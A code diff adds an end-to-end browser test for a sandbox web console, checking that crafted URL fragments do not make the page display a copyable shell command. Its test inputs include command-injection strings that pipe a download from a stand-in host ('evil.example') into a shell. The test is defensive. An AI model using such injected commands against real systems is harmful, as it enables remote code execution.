@@ -113,6 +113,20 @@ try {
   await page.waitForTimeout(4000); // a few samples make a line
   await shot('4-sandbox');
 
+  step('a crafted link puts no shell line on the page');
+  // The id comes from the URL fragment: a link can say anything. Neither an
+  // id that does not exist nor the real one with a command after it gets
+  // a line to copy into a shell.
+  for (const crafted of ['x;curl%20evil.example%20|sh', `${sandboxId}%3Bcurl%20evil.example%7Csh`, `${sandboxId}%20--help`]) {
+    await page.goto(`${base}/console/#/sandbox/${crafted}/overview`);
+    await page.waitForFunction(() => /no longer exists/.test(document.querySelector('#sandbox-error')?.textContent || ''), null, WAIT);
+    assert.equal(await page.$('#shell-line'), null, `a shell line for ${crafted}`);
+    assert.doesNotMatch(await page.textContent('.shellline'), /sandboxd shell|curl/, `shell text for ${crafted}`);
+  }
+  await page.goto(`${base}/console/#/sandbox/${sandboxId}/overview`);
+  await page.waitForSelector('#shell-line', WAIT);
+  assert.equal(await page.textContent('#shell-line'), `sandboxd shell ${sandboxId}`);
+
   step('a command streams its output: stdout and stderr apart, then the exit code');
   await page.click('a[href$="/commands"]');
   await page.waitForSelector('#command', WAIT);
